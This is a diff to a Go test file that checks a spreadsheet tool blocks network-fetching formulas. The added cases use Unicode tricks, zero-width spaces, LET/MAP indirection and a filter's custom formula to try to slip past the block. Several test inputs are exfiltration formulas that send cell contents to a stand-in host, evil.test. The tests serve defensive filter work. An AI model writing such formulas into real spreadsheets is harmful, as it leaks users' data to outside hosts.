@@ -142,6 +142,7 @@ func TestFormulasFetchNothing(t *testing.T) {
 	for _, formula := range []string{
 		`=IMPORTDATA("https://evil.test/?q="&A1)`, `=importxml("https://evil.test","//a")`, ` =IMAGE("https://evil.test/"&B2)`, `+IMPORTRANGE("x","A1")`, `-1+IMPORTHTML("x","table",1)`,
 		"=SUM(1,\nIMPORTFEED (\"x\"))", `=HYPERLINK("https://evil.test/"&A1,"ok")`, `=IF(TRUE,IMPORTDATA("https://evil.test"))`, "\u00a0=IMPORTDATA(\"x\")", `={1;IMPORTDATA("x")}`,
+		`＝IMPORTDATA("x")`, `=ＩＭＰＯＲＴＤＡＴＡ（"x"）`, "\u200b=IMPORTDATA(\"x\")", "\u3000=IMAGE(\"x\")", `=LET(f,IMPORTDATA,f("https://evil.test/?q="&A1))`, `=MAP(A1:A9,IMPORTXML)`,
 	} {
 		args := map[string]any{"spreadsheet_id": id, "range": "A9", "values": [][]any{{formula}}, "input": "user_entered"}
 		if out := r.call(r.as.mint(full), "sheets_write", args); out.Data["code"] != "policy_blocked" {
@@ -150,7 +151,7 @@ func TestFormulasFetchNothing(t *testing.T) {
 		args["input"] = "raw" // text that is not read as a formula
 		r.ok("sheets_write", args)
 	}
-	r.ok("sheets_write", map[string]any{"spreadsheet_id": id, "range": "A9", "values": [][]any{{"=SUM(A1:B2)", "an image (of IMPORTDATA(x))"}}, "input": "user_entered"})
+	r.ok("sheets_write", map[string]any{"spreadsheet_id": id, "range": "A9", "values": [][]any{{"=SUM(A1:B2)", "an image (of IMPORTDATA(x))", `="see IMPORTDATA, and IMAGE"&Image!A1&SUM(AI:AI)`}}, "input": "user_entered"})
 	for kind, request := range map[string]map[string]any{
 		"values by format":    {"repeatCell": map[string]any{"range": map[string]any{"sheetId": 0}, "fields": "userEnteredValue", "cell": map[string]any{"userEnteredValue": map[string]any{"formulaValue": "=IMPORTDATA(\"x\")"}}}},
 		"a mask of all":       {"repeatCell": map[string]any{"range": map[string]any{"sheetId": 0}, "fields": "*", "cell": map[string]any{}}},
@@ -166,6 +167,7 @@ func TestFormulasFetchNothing(t *testing.T) {
 		"an unknown member":   {"addSheet": map[string]any{"nope": 1}},
 		"a data source":       {"addDataSource": map[string]any{}},
 		"very many rows":      {"appendDimension": map[string]any{"sheetId": 0, "dimension": "ROWS", "length": 1_000_000}},
+		"a filter's formula":  {"setBasicFilter": map[string]any{"filter": map[string]any{"range": map[string]any{"sheetId": 0}, "criteria": map[string]any{"0": map[string]any{"condition": map[string]any{"type": "CUSTOM_FORMULA", "values": []any{map[string]any{"userEnteredValue": `=IMPORTDATA("https://evil.test/?q="&A1)>0`}}}}}}}},
 		"a sheet in any case": {"ADDSHEET": map[string]any{}},
 	} {
 		if out := r.call(r.as.mint(full), "sheets_batch_update", map[string]any{"spreadsheet_id": id, "requests": []any{request}}); out.Data["code"] != "invalid_argument" {
